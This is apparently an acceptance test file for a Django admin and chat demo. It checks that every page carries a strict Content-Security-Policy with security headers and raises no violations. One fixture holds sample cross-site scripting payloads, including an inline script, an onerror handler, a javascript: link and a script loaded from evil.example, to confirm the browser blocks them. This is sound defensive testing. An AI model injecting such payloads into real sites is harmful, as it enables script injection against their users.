"""In Chromium: no page needs more than its Content-Security-Policy allows, and what it does not allow does not run."""

from __future__ import annotations

import re
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, Page, Response, expect

from tests.acceptance.admin.conftest import PASSWORD, QUICK
from tests.acceptance.engine.peer import Peer
from tests.acceptance.nodes import assert_no_traceback
from tests.support.browser import chromium
from tests.support.cluster import Cluster, run_manage
from tests.support.raw_http import request, send
from tests.support.servers import RedisServer

ROOT = f"""
from django.contrib.auth.models import Group, User
User.objects.create_superuser("root", password={PASSWORD!r})
Group.objects.create(name="operators")
"""
PRODUCTION = {
    **QUICK,
    "DJANGO_DEBUG": "0",
    "DJANGO_SECRET_KEY": "a secret key of this test, long enough for Django",
    "DJANGO_ALLOWED_HOSTS": "localhost,127.0.0.1",
    "DEMO": "1",
    "REALTIME_DEFAULTS": "development",  # the clients of these tests are anonymous
}
PAGES = [
    "",
    "auth/",
    "auth/user/",
    "auth/user/?q=root&is_staff__exact=1",
    "auth/user/add/",
    "auth/user/1/change/",
    "auth/user/1/password/",
    "auth/user/1/delete/",
    "auth/user/1/history/",
    "auth/group/1/change/",
    "auth/group/add/?_popup=1",
    "password_change/",
    "monitoring/cluster/",
    "monitoring/room/",
    "monitoring/room/room/?name=lobby",
    "monitoring/broadcast/",
    "realtime/node/",
    "realtime/connection/",
]
# Seen from inside: an event for each thing that the policy did not allow.
WATCH = """
window.violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""
# What somebody would write who found a hole. Each would run if it were allowed to.
INJECTED = """() => {
  const script = document.createElement("script");
  script.textContent = "window.injected = 'script'";
  document.body.append(script);
  document.body.insertAdjacentHTML("beforeend", `<img src="/static/nothing" onerror="window.injected = 'handler'">`);
  document.body.insertAdjacentHTML("beforeend", `<a id="lure" href="javascript:window.injected = 'link'">x</a>`);
  document.getElementById("lure").click();
  const far = document.createElement("script");
  far.src = "https://evil.example/x.js";
  document.body.append(far);
}"""


@pytest.fixture(scope="module")
def cluster(redis_server: RedisServer) -> Iterator[Cluster]:
    with Cluster(redis_server.url, nodes=1, environment=PRODUCTION) as cluster:
        done = run_manage(cluster.environment, "shell", "-v", "0", "-c", ROOT)
        assert done.returncode == 0, done.stderr
        yield cluster


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def url(cluster: Cluster) -> str:
    return f"http://localhost:{cluster.nodes[0].port}"


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    page = browser.new_page()
    page.add_init_script(WATCH)
    yield page
    page.close()


def log_in(page: Page, url: str) -> None:
    """Over http, with cookies for https only: to a browser its own machine is as good."""
    page.goto(f"{url}/admin/login/")
    page.fill("#id_username", "root")
    page.fill("#id_password", PASSWORD)
    page.click("input[type=submit]")
    expect(page.locator("#user-tools")).to_be_visible()
    assert all(cookie.get("secure") for cookie in page.context.cookies())


def violations(page: Page) -> list[str]:
    found: list[str] = page.evaluate("() => window.violations")
    return found


def assert_headers(response: Response | None) -> None:
    """What every page has."""
    assert response is not None
    headers = response.headers
    policy = headers["content-security-policy"]
    assert "unsafe" not in policy
    assert "script-src 'self';" in policy
    assert headers["x-content-type-options"] == "nosniff"
    assert headers["x-frame-options"] == "DENY"
    assert headers["referrer-policy"] == "same-origin"
    assert headers["cross-origin-opener-policy"] == "same-origin"
    assert "camera=()" in headers["permissions-policy"]


def test_no_page_of_the_admin_is_in_conflict_with_the_policy(page: Page, cluster: Cluster, url: str) -> None:
    """Each page has the headers, no violation, and its styles; the lists and dialogues of Django as well as ours."""
    log_in(page, url)
    assert violations(page) == []
    with Peer(cluster.nodes[0].port) as peer:
        peer.do("join", room="lobby")
        links = {}
        for of in ("node", "connection"):
            page.goto(f"{url}/admin/realtime/{of}/")
            row = page.locator("#result_list tbody th a")
            while row.count() == 0:
                page.reload()
            links[of] = row.first.get_attribute("href")
        for path in [*(f"/admin/{path}" for path in PAGES), *links.values()]:
            response = page.goto(f"{url}{path}")
            assert response is not None
            assert response.status == 200, path
            assert_headers(response)
            page.wait_for_load_state("load")
            assert violations(page) == [], path
            assert page.locator("link[rel=stylesheet]").count() > 0
            assert page.evaluate("[...document.styleSheets].every((sheet) => sheet.cssRules.length >= 0)"), path


def test_the_cluster_page_lives_under_the_policy(page: Page, cluster: Cluster, url: str) -> None:
    """The feed's WebSocket gets through, and charts are drawn."""
    log_in(page, url)
    page.goto(f"{url}/admin/monitoring/cluster/")
    expect(page.locator("#rt-live")).to_have_attribute("data-state", "live")
    expect(page.locator("#rt-charts")).to_have_attribute("data-drawn", "hour")
    expect(page.locator("#rt-charts canvas")).to_have_count(4)
    page.click("[data-span=day]")
    expect(page.locator("#rt-charts")).to_have_attribute("data-drawn", "day")
    assert violations(page) == []


@pytest.mark.parametrize("via", ["websocket", "socketio"])
def test_the_demo_page_lives_under_the_policy(page: Page, url: str, via: str) -> None:
    """Joined, and a message sent and acknowledged, by either client."""
    response = page.goto(f"{url}/{'?via=socketio' if via == 'socketio' else ''}#policy")
    assert_headers(response)
    page.get_by_test_id("name-input").fill("Ada")
    page.get_by_test_id("enter-button").click()
    expect(page.get_by_test_id("status")).to_have_attribute("data-state", "open")
    page.get_by_test_id("composer-text").fill("under a policy")
    page.get_by_test_id("composer-text").press("Enter")
    expect(page.get_by_test_id("message").locator('[data-state="sent"]')).to_be_attached()
    assert violations(page) == []


def test_error_pages_have_the_policy(page: Page, url: str) -> None:
    """Not found, a form from elsewhere, another host's name."""
    response = page.goto(f"{url}/nothing")
    assert response is not None
    assert response.status == 404
    assert_headers(response)
    assert violations(page) == []
    page.goto(f"{url}/admin/login/")
    page.context.clear_cookies()
    with page.expect_response(re.compile("/admin/login/")) as refused:
        page.click("input[type=submit]", no_wait_after=True)
        # The fields are required: the form is sent as a script would.
        page.evaluate("document.querySelector('#login-form').submit()")
    assert refused.value.status == 403
    assert_headers(refused.value)
    expect(page.locator("body")).to_contain_text("cookies travel over https only")
    assert violations(page) == []


def test_a_request_for_another_host_is_refused_in_a_line(cluster: Cluster) -> None:
    """The page about it has the policy, which does not repeat the host; the log has a line, and no traceback."""
    answer = send(cluster.nodes[0].port, request("/", host="evil.example"))
    assert answer.status == 400
    assert b"content-security-policy: default-src 'none'" in answer.head
    assert b"evil" not in answer.raw
    broken = request("/admin/login/", method="POST", Content_Type="multipart/form-data; boundary=x", Content_Length="0")
    assert send(cluster.nodes[0].port, broken).status in (400, 403)
    assert "Invalid HTTP_HOST header: 'evil.example'" in cluster.nodes[0].log
    assert_no_traceback(cluster)


@pytest.mark.parametrize("path", ["/", "/nothing", "/admin/login/"])
def test_what_was_injected_does_not_run(page: Page, url: str, path: str) -> None:
    """Neither an inline script nor a handler, a link or a script from elsewhere runs, and the browser says so."""
    page.goto(f"{url}{path}")
    page.evaluate(INJECTED)
    page.wait_for_function("window.violations.length >= 4")
    assert page.evaluate("window.injected") is None
    kinds = {found.split(" ")[0] for found in violations(page)}
    assert {"script-src-elem", "script-src-attr"} <= kinds
